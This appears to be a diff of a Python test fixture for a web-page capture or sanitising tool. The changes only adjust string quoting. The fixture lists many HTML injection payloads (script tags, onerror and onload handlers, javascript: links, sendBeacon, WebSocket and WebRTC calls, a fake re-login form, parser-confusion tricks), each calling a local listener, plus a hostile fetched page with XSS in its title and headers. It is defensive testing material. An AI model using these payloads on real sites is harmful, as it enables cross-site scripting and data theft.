@@ -35,22 +35,22 @@ def attacks(port: int) -> dict[str, str]:
         "script of another host": f"<script src={to}/s.js></script>",
         "module": f"<script type=module>import '{to}/m.js'</script>",
         "image": f"<img src={to}/i srcset='{to}/i2 2x' loading=eager>",
-        "handler": f"<img src=x onerror=\"{read}\"><body onload=\"{read}\">",
+        "handler": f'<img src=x onerror="{read}"><body onload="{read}">',
         "style sheet": f"<link rel=stylesheet href={to}/c.css><style>@import '{to}/i.css'; *{{background:url({to}/b)}}</style>",
-        "style": f"<p style=\"background:url({to}/bg);position:fixed;inset:0\">over everything</p>",
+        "style": f'<p style="background:url({to}/bg);position:fixed;inset:0">over everything</p>',
         "prefetch": f"<link rel=prefetch href={to}/p><link rel=preload as=image href={to}/pl><link rel=modulepreload href={to}/mp>",
         "preconnect": f"<link rel=preconnect href={to}><link rel=dns-prefetch href={to}>",
         "refresh": f"<meta http-equiv=refresh content='0;url={to}/r'>",
         "base": f"<base href={to}/base/ target=_top>",
         "frame": f"<iframe src={to}/f></iframe><frameset><frame src={to}/fr></frameset>",
-        "frame with a document": f"<iframe srcdoc=\"<script>{read}</script><img src={to}/sd>\"></iframe>",
+        "frame with a document": f'<iframe srcdoc="<script>{read}</script><img src={to}/sd>"></iframe>',
         "object": f"<object data={to}/o></object><embed src={to}/e><applet code={to}/a></applet>",
         "media": f"<video src={to}/v poster={to}/po autoplay></video><audio src={to}/au autoplay></audio><track src={to}/t>",
         "picture": f"<picture><source srcset={to}/ps><img src={to}/pi></picture>",
         "drawing": f"<svg onload=\"{read}\"><image href={to}/si /><use href={to}/su#a /><a xlink:href='javascript:{read}'>"
         "<text>x</text></a><foreignObject><script>x</script></foreignObject></svg>",
         "formula": f"<math href={to}/ma><maction actiontype=statusline xlink:href={to}/mx>m</maction></math>",
-        "form": f"<form action={to}/fo method=post><input name=a value=b autofocus onfocus=\"{read}\"><button formaction={to}/fb>"
+        "form": f'<form action={to}/fo method=post><input name=a value=b autofocus onfocus="{read}"><button formaction={to}/fb>'
         "Sign in again</button><input type=image src={to}/ii></form>",
         "link": f"<a href={to}/l ping={to}/ping target=_top>click here</a><a href='javascript:{read}'>or here</a>"
         f"<area href={to}/ar>",
@@ -58,7 +58,7 @@ def attacks(port: int) -> dict[str, str]:
         "worker": f"<script>navigator.sendBeacon('{to}/b');new WebSocket('ws://127.0.0.1:{port}/w');fetch('{to}/f')</script>",
         "peer connection": f"<script>new RTCPeerConnection({{iceServers:[{{urls:'turn:127.0.0.1:{port}?transport=tcp',username:'u',"
         "credential:'c'}]}).createDataChannel('x')</script>",
-        "parser": f"<noscript><p title=\"</noscript><img src={to}/ns onerror=alert(1)>\"></noscript><xmp><img src={to}/xm></xmp>"
+        "parser": f'<noscript><p title="</noscript><img src={to}/ns onerror=alert(1)>"></noscript><xmp><img src={to}/xm></xmp>'
         f"<textarea><img src={to}/ta></textarea><title><img src={to}/ti></title><!--><img src={to}/co>-->",
         "template": f"<template shadowrootmode=open><img src={to}/te></template><slot><img src={to}/sl></slot>",
         "table": f"<table background={to}/tb><tr><td background={to}/td>cell</td></tr></table>",
@@ -69,7 +69,7 @@ def attacks(port: int) -> dict[str, str]:
 def hostile_capture(port: int) -> Fetched:
     """A page made of attacks, with an appeal in it, as a fetch would give it."""
     body = (
-        "<!doctype html><html lang=en><head><title>\"><script>alert(1)</script>Prisoners of the tower write</title></head>"
+        '<!doctype html><html lang=en><head><title>"><script>alert(1)</script>Prisoners of the tower write</title></head>'
         "<body><article><h1>&lt;img src=x onerror=alert(4)&gt; Prisoners of the tower write</h1>"
         "<p class=byline>By &lt;svg onload=alert(5)&gt; Ann</p><p>4 May 2018. In a letter to UN Secretary-General António"
         " Guterres, prisoners of the tower ask for a visit.</p><p dir=rtl lang=fa style='color:red'>نامه‌ای از برج</p>"
@@ -80,7 +80,7 @@ def hostile_capture(port: int) -> Fetched:
     exchange = Exchange(
         url=url,
         request=b"GET /a HTTP/1.1\r\nHost: tower.example\r\n\r\n",
-        response=b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8; x=\"><script>\r\nSet-Cookie: a=b\r\n\r\n",
+        response=b'HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8; x="><script>\r\nSet-Cookie: a=b\r\n\r\n',
         body=body,
         status=200,
         at=_AT,
